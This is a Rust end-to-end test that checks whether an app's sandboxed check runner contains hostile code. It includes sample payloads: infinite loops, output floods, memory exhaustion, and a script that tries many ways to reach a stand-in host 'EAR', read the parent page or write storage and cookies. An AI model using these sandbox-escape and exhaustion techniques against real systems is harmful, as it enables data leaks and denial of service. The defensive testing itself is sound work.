//! Flow for hostile checks.

use anyhow::{Result, ensure};

use crate::app;
use crate::fixture::Fixture;
use crate::flows::preview::{Listeners, isolates_page, written};
use crate::selectors::*;

/// Waits for the end of a check run with this verdict.
async fn finished(fixture: &Fixture, verdict: &str) -> Result<()> {
    fixture.page.see(CHECKS_SUMMARY.with("data-verdict", verdict)).await
}

/// Each attempt is a test: none may pass.
const REACH: &str = "const ways = {
  fetch: () => fetch('http://EAR/fetch'),
  blind: () => fetch('http://EAR/blind', { mode: 'no-cors' }),
  module: () => import('http://EAR/module.js'),
  script: () => importScripts('http://EAR/script.js'),
  request: () => { const r = new XMLHttpRequest(); r.open('GET', 'http://EAR/xhr', false); r.send(); },
  socket: () => new Promise((yes, no) => { const s = new WebSocket('ws://EAR/'); s.onopen = yes; s.onerror = () => no(new Error('closed')); }),
  events: () => new Promise((yes, no) => { const s = new EventSource('http://EAR/'); s.onopen = yes; s.onerror = () => no(new Error('closed')); }),
  worker: () => new Promise((yes, no) => {
    const text = `fetch('http://EAR/worker').then(() => postMessage(1), () => postMessage(0))`;
    const w = new Worker(URL.createObjectURL(new Blob([text])));
    w.onmessage = ({ data }) => (data ? yes() : no(new Error('closed')));
    w.onerror = () => no(new Error('closed'));
  }),
  rtc: () => new RTCPeerConnection(),
  page: () => parent.document.title,
  top: () => { top.location = 'http://EAR/top'; },
  database: () => new Promise((yes, no) => { const d = indexedDB.open('x'); d.onsuccess = yes; d.onerror = () => no(d.error); }),
  storage: () => localStorage.setItem('nexus_user_name', 'x'),
  cookie: () => { document.cookie = 'a=b'; },
};
for (const [name, way] of Object.entries(ways)) test(name, way);
new BroadcastChannel('nexus').postMessage({ leaked: true });
";

/// Checks that never end, exhaust memory, write endlessly or access the network are reported and harm nothing.
pub(crate) async fn hostile(fixture: &mut Fixture) -> Result<()> {
    let blank = fixture.site.url(crate::site::BLANK_PAGE);
    fixture.page.goto(&blank).await?;
    let is_isolated = isolates_page(&fixture.page).await?;
    let listeners = Listeners::open(true)?;
    let reach = listeners.page(REACH);
    app::set_up(fixture).await?;
    let mut files = vec![
        ("tests/1.js", "test('loops', () => { for (;;); });"),
        ("tests/2.js", "test('floods', () => { for (;;) postMessage('x'.repeat(10000)); });"),
        (
            "tests/3.js",
            "test('talks', () => { for (let i = 0; i < 1000; i += 1) console.log('y'.repeat(10000)); throw new Error('z'.repeat(1e7)); });",
        ),
        ("tests/4.js", &*reach),
        ("tests/6.js", "test('still runs', () => {});"),
    ];
    if is_isolated {
        // Other browsers may run the frame in the page's process.
        files.push((
            "tests/5.js",
            "test('grows', () => { const a = []; for (;;) a.push(new Array(1e6).fill(a.length)); });",
        ));
    }
    written(fixture, &files).await?;
    fixture.page.click(RUN_CHECKS).await?;
    // The page stays responsive.
    let answers = "new Promise(done => setTimeout(() => done(true), 0))";
    ensure!(fixture.page.eval_async(&format!("return await {answers}"), &[]).await? == true);
    finished(fixture, "failed").await?;
    let tests = fixture.page.texts(CHECK_TEST).await?;
    let state = |name: &str| tests.iter().find(|test| test.contains(name)).cloned().unwrap_or_default();
    for (name, words) in [("loops", "infinite loop"), ("2.js", "too much output"), ("talks", "zzz")] {
        ensure!(state(name).contains(words), "{name}: {}", state(name));
    }
    let passed = fixture.page.texts(CHECK_TEST.with("data-state", "passed")).await?.join(" ");
    ensure!(passed.contains("still runs") && !passed.contains("4.js"), "what passed: {passed}");
    listeners.expect_silence("checks that try everything").await?;
    ensure!(
        fixture.page.local("nexus_user_name").await?.as_deref() == Some(app::NAME),
        "it wrote our storage"
    );
    ensure!(fixture.page.count(Selector::css("[data-testid=check-frame]")).await? == 0, "the frame is left");
    fixture.page.click(CHECKS_CLOSE).await?;
    fixture.page.fill(COMPOSER, "still here").await
}
